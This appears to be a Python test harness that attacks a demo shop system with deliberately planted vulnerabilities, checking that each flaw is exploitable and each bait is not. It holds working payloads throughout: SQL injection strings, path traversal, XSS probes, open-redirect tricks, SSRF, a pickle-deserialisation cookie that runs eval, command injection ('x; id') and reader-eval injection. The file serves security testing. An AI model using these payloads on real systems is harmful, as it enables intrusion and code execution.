"""What an attacker would do to the demo system, by hand: the proof that each planted flaw is real and each bait is not.

An attack returns whether it succeeded. It names routes of the demo as they are; it is no part of the product.
"""

from __future__ import annotations

import base64
import pickle
import socket
import uuid
from pathlib import Path

import httpx

from flows.staging import Staging


class Attacker:
    """A customer with bad intentions."""

    def __init__(self, staging: Staging) -> None:
        self._urls = staging.urls
        self._logs = staging.logs
        self._environment = staging.environment
        self._bob = self._token("BOB")

    def get(self, service: str, path: str, **params: str) -> httpx.Response:
        """Send a GET as a signed-in customer, following nothing."""
        return httpx.get(self._urls[service] + path, params=params, headers=self._bob, trust_env=False)

    def post(self, service: str, path: str, body: dict[str, str]) -> httpx.Response:
        """Send JSON as a signed-in customer."""
        return httpx.post(self._urls[service] + path, json=body, headers=self._bob, trust_env=False)

    def _token(self, customer: str) -> dict[str, str]:
        form = {
            "user": self._environment[f"SHOP_{customer}_USER"],
            "password": self._environment[f"SHOP_{customer}_PASSWORD"],
        }
        answer = httpx.post(self._urls["gateway"] + "/login", json=form, trust_env=False)
        return {"Authorization": f"Bearer {answer.json()['token']}"}

    def raw(self, service: str, request: bytes) -> bytes:
        """Send bytes as they are, return the first of the answer."""
        host, port = self._urls[service].removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=3) as connection:
            connection.sendall(request)
            return connection.recv(200)

    def url(self, service: str) -> str:
        """Return the base URL of a service."""
        return self._urls[service]

    def log(self, service: str) -> str:
        """Return what a service wrote so far."""
        return Path(self._logs[service]).read_text(encoding="utf-8")


def reflected_term(attacker: Attacker) -> bool:
    return "<img src=x>" in attacker.get("gateway", "/search", q="<img src=x>").text


def escaped_suggestion(attacker: Attacker) -> bool:
    return "<img src=x>" in attacker.get("gateway", "/suggest", q="<img src=x>").text


def open_redirect(attacker: Attacker) -> bool:
    return _leads_away(attacker.get("gateway", "/go", to="https://elsewhere.invalid/"))


def listed_partners(attacker: Attacker) -> bool:
    tricks = ("https://elsewhere.invalid/", "//elsewhere.invalid/", "https://partner.shop.example@elsewhere.invalid/")
    return any(_leads_away(attacker.get("gateway", "/leave", to=trick)) for trick in tricks)


def _leads_away(answer: httpx.Response) -> bool:
    return httpx.URL(answer.headers.get("location", "")).host == "elsewhere.invalid"


def preview_of_any_address(attacker: Attacker) -> bool:
    return attacker.get("gateway", "/preview", url=attacker.url("notifier") + "/health").json().get("bytes", 0) > 0


def listed_picture_hosts(attacker: Attacker) -> bool:
    inside = attacker.url("notifier") + "/health"
    return attacker.get("gateway", "/badge", url=inside).json().get("available", False)


def missing_headers(attacker: Attacker) -> bool:
    return "content-security-policy" not in attacker.get("gateway", "/search", q="mug").headers


def bad_escape(attacker: Attacker) -> bool:
    targets = (b"/search?q=%zz", b"/health%", b"/search?q=\xff")
    requests = [b"GET " + target + b" HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n" for target in targets]
    return any(b" 500 " in attacker.raw("gateway", request) for request in requests)


def concatenated_search(attacker: Attacker) -> bool:
    everything = attacker.get("catalog", "/items", q="nothing%' OR '1'='1' --")
    return everything.is_success and len(everything.json()) == 5


def concatenated_maker(attacker: Attacker) -> bool:
    everything = attacker.get("catalog", "/items", maker="nobody' OR '1'='1")
    return everything.is_success and len(everything.json()) == 5


def parameterised_look_alike(attacker: Attacker) -> bool:
    return attacker.get("catalog", "/items/nothing' OR 'a'='a").is_success


def any_file_exported(attacker: Attacker) -> bool:
    return "FastAPI" in attacker.get("catalog", "/export", name="../../main.py").text


def canonicalised_path(attacker: Attacker) -> bool:
    return "FastAPI" in attacker.get("catalog", "/care", name="../../main.py").text


def concatenated_login(attacker: Attacker) -> bool:
    """Nothing in the answer tells: only the service's own log does."""
    usual = attacker.get("gateway", "/orders/1002", user="bob")
    before = attacker.log("orders").count("the tier of a member is unknown")
    quoted = attacker.get("gateway", "/orders/1002", user="bob'")
    assert (usual.status_code, usual.json()) == (quoted.status_code, quoted.json())
    return attacker.log("orders").count("the tier of a member is unknown") > before


def orders_of_others(attacker: Attacker) -> bool:
    return attacker.get("gateway", "/orders/1001", user="bob").is_success


def stored_note(attacker: Attacker) -> bool:
    text = f"{uuid.uuid4()}' OR '1'='1"
    attacker.post("orders", "/notes", {"text": text})
    times = {note["text"]: note["times"] for note in attacker.get("orders", "/report").json()["notes"]}
    return times[text] > 1


class _Planted:
    def __reduce__(self):
        return (eval, ("['ran', 'here']",))


def pickled_cookie(attacker: Attacker) -> bool:
    cookie = base64.urlsafe_b64encode(pickle.dumps(_Planted())).decode()
    answer = httpx.get(attacker.url("orders") + "/basket", headers={"Cookie": f"basket={cookie}"}, trust_env=False)
    return answer.json()["items"] == ["ran", "here"]


def allow_listed_order(attacker: Attacker) -> bool:
    refused = attacker.get("orders", "/orders", sort="no_such_column").is_server_error
    return refused or attacker.get("orders", "/orders", sort="(SELECT 1)").is_server_error


def list_of_arguments(attacker: Attacker) -> bool:
    return "uid=" in attacker.get("orders", "/label", code="x; id").json()["label"]


def constant_evaluated(attacker: Attacker) -> bool:
    return attacker.get("orders", "/orders", limit="1 / 0").is_server_error


def threaded_statement(attacker: Attacker) -> bool:
    return attacker.get("pricing", "/quote", item="nothing' OR '1'='1").is_success


def bound_price(attacker: Attacker) -> bool:
    return attacker.get("pricing", "/prices/nothing' OR 'a'='a").is_success


def rule_read(attacker: Attacker) -> bool:
    """The reader calls a function while it reads: half of the price is off by no rule that is written there."""
    return _is_halved(attacker.get("pricing", "/rules", rule="#=(hash-map :from 0 :percent 50)"))


def tiers_of_data(attacker: Attacker) -> bool:
    return _is_halved(attacker.get("pricing", "/tiers", tiers="[#=(hash-map :from 0 :percent 50)]"))


def _is_halved(answer: httpx.Response) -> bool:
    return answer.json().get("cents") == 5000


def any_sheet_sent(attacker: Attacker) -> bool:
    return ":deps" in attacker.get("pricing", "/sheet", name="../../deps.edn").text


def canonical_terms(attacker: Attacker) -> bool:
    return ":deps" in attacker.get("pricing", "/terms", name="../../deps.edn").text


def escaped_title(attacker: Attacker) -> bool:
    return "<img src=x>" in attacker.get("pricing", "/board", title="<img src=x>").text


ATTACKS = {
    "reflected term": reflected_term,
    "open redirect": open_redirect,
    "preview of any address": preview_of_any_address,
    "missing headers": missing_headers,
    "bad escape": bad_escape,
    "concatenated search": concatenated_search,
    "concatenated maker": concatenated_maker,
    "any file exported": any_file_exported,
    "concatenated login": concatenated_login,
    "orders of others": orders_of_others,
    "stored note": stored_note,
    "pickled cookie": pickled_cookie,
    "escaped suggestion": escaped_suggestion,
    "listed partners": listed_partners,
    "listed picture hosts": listed_picture_hosts,
    "parameterised look-alike": parameterised_look_alike,
    "canonicalised path": canonicalised_path,
    "allow-listed order": allow_listed_order,
    "list of arguments": list_of_arguments,
    "list of arguments, before the move": list_of_arguments,
    "constant evaluated": constant_evaluated,
    "threaded statement": threaded_statement,
    "rule read": rule_read,
    "any sheet sent": any_sheet_sent,
    "bound price": bound_price,
    "tiers of data": tiers_of_data,
    "canonical terms": canonical_terms,
    "escaped title": escaped_title,
}
